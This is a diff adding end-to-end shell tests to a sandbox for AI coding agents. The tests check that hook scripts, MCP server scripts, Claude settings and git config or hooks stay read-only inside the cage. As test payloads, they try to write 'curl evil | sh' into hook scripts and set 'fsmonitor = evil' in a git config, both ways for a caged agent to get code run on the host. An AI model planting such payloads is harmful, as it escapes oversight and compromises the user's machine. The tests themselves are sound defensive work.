@@ -246,6 +246,15 @@ OUT=$(cd "$P2" && as_user "$LTD" run --project "$P2" -- sh -c 'mkdir .git && ech
 expect_out "a .git created in the cage is reported" "warning: .*\.git"
 as_user rm -rf "$P2"
 
+# A link made in the cage where a protected path's directory was missing:
+# the check after the run does not walk through it (it could lead to an
+# automount, or to another file that would be compared), and says so.
+ELSEWHERE=$(as_user mktemp -d "$U_HOME/e2e-elsewhere.XXXXXX")
+as_user sh -c "echo '{}' > '$ELSEWHERE/settings.json'"
+ltd run -- ln -s "$ELSEWHERE" "$PROJ/.claude"
+expect_out "a link on the way to a protected path is reported, not followed" "warning: .*\.claude/settings\.json.*symbolic link"
+as_user rm -rf "$PROJ/.claude" "$ELSEWHERE"
+
 # --- links planted in the project are never followed by a later run ---------------
 if [ "$AS_ROOT" = 1 ]; then
 	as_user mkdir -p "$U_HOME/.ssh"
@@ -322,6 +331,36 @@ OUT=$(cd "$WT" && as_user "$LTD" run --project "$WT" --ro-bind "$STAGE" "$STAGE"
 expect_out "a worktree's hooks path, from the common config, is read-only" "^write err EROFS"
 as_user rm -rf "$WT" "$MAINREPO"
 
+# A bare repository as the project (named, or the current directory): its
+# config and hooks are what the host's git runs on the next push or fetch.
+BARE=$(as_user mktemp -d "$U_HOME/e2e-bare.XXXXXX")
+as_user mkdir -p "$BARE/x.git/objects" "$BARE/x.git/refs/heads" "$BARE/x.git/hooks"
+as_user sh -c "echo 'ref: refs/heads/main' > '$BARE/x.git/HEAD'; printf '[core]\n\tbare = true\n' > '$BARE/x.git/config'"
+OUT=$(cd "$BARE" && as_user "$LTD" run --project "$BARE/x.git" --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$BARE/x.git/hooks/pre-commit" x 2>&1)
+expect_out "a bare repository's hooks are read-only" "^write err EROFS"
+OUT=$(cd "$BARE/x.git" && as_user "$LTD" run --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$BARE/x.git/config" "[core] fsmonitor = evil" 2>&1)
+expect_out "a bare repository's config is read-only (the current directory)" "^write err EROFS"
+[ ! -e "$BARE/x.git/hooks/pre-commit" ] && grep -q bare "$BARE/x.git/config" &&
+	pass "the host's bare repository is unchanged" ||
+	fail "the host's bare repository is unchanged" "$(ls -la "$BARE/x.git/hooks"; cat "$BARE/x.git/config")"
+# The .git directory of a work tree, named as the project: the same.
+as_user mkdir -p "$BARE/wt/.git/objects" "$BARE/wt/.git/refs" "$BARE/wt/.git/hooks"
+as_user sh -c "echo 'ref: refs/heads/main' > '$BARE/wt/.git/HEAD'; echo '[core]' > '$BARE/wt/.git/config'"
+OUT=$(cd "$BARE/wt/.git" && as_user "$LTD" run --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$BARE/wt/.git/hooks/post-checkout" x 2>&1)
+expect_out "a .git directory as the project: its hooks are read-only" "^write err EROFS"
+# A project inside a git directory's hooks: refused, nothing written.
+OUT=$(cd "$BARE/x.git/hooks" && as_user "$LTD" run --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$BARE/x.git/hooks/pre-commit" x 2>&1)
+RC=$?
+expect_rc "a project in a git directory's hooks is refused" 125
+expect_out "and the message names the hooks directory" "lies in $BARE/x\.git/hooks"
+[ ! -e "$BARE/x.git/hooks/pre-commit" ] && pass "and no hook is written" || fail "and no hook is written" "$OUT"
+# A project in a work tree whose config names a hooks path in the project.
+as_user mkdir -p "$BARE/wt/tools/hooks"
+as_user sh -c "printf '[core]\n\thooksPath = tools/hooks\n' > '$BARE/wt/.git/config'"
+OUT=$(cd "$BARE/wt/tools" && as_user "$LTD" run --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$BARE/wt/tools/hooks/pre-commit" x 2>&1)
+expect_out "a project inside a work tree: the repository's hooks path in it is read-only" "^write err EROFS"
+as_user rm -rf "$BARE"
+
 # --- descriptors that lead into the host cannot be re-opened (Landlock) ---------
 as_user sh -c "echo original > '$U_HOME/e2e-input.txt'"
 OUT=$(cd "$PROJ" && as_user sh -c "exec '$LTD' run -- sh -c 'cat; echo AGENT > /proc/self/fd/0' < '$U_HOME/e2e-input.txt'" 2>&1)
@@ -352,3 +391,32 @@ else
 fi
 as_user rm -rf "$PROJ/.claude-old"
 as_user rm -rf "$PROJ/.claude" "$PROJ/.mcp.json"
+
+# The scripts those settings run: a hook's, the status line's, an MCP
+# server's.  Rewritten in the cage, they would run on the host at the next
+# Claude Code session there.  The rest of their directories stays the
+# agent's to edit.
+as_user mkdir -p "$PROJ/.claude/hooks" "$PROJ/scripts" "$PROJ/tools"
+for f in scripts/fmt.sh scripts/other.sh .claude/hooks/stop.sh tools/server.js tools/status.sh; do
+	as_user sh -c "echo original > '$PROJ/$f'"
+done
+as_user tee "$PROJ/.claude/settings.json" >/dev/null <<'JSON'
+{"hooks": {"PostToolUse": [{"matcher": "Edit", "hooks": [
+   {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/scripts/fmt.sh"}]}]},
+ "statusLine": {"type": "command", "command": "bash -c 'cd tools && ./status.sh'"}}
+JSON
+as_user tee "$PROJ/.mcp.json" >/dev/null <<'JSON'
+{"mcpServers": {"local": {"command": "node", "args": ["tools/server.js"]}}}
+JSON
+for f in scripts/fmt.sh .claude/hooks/stop.sh tools/server.js tools/status.sh; do
+	ltd run -- "$PROBE" write "$PROJ/$f" 'curl evil | sh'
+	expect_out "what Claude Code runs from the project is read-only: $f" "^write err EROFS"
+done
+ltd run -- "$PROBE" write "$PROJ/scripts/other.sh" changed
+expect_out "another script beside a hook's stays writable (the control)" "^write ok"
+if [ "$(cat "$PROJ/scripts/fmt.sh" "$PROJ/tools/server.js")" = "$(printf 'original\noriginal')" ]; then
+	pass "the host's hook scripts are unchanged"
+else
+	fail "the host's hook scripts are unchanged" "$(cat "$PROJ/scripts/fmt.sh" "$PROJ/tools/server.js")"
+fi
+as_user rm -rf "$PROJ/.claude" "$PROJ/.mcp.json" "$PROJ/scripts" "$PROJ/tools"
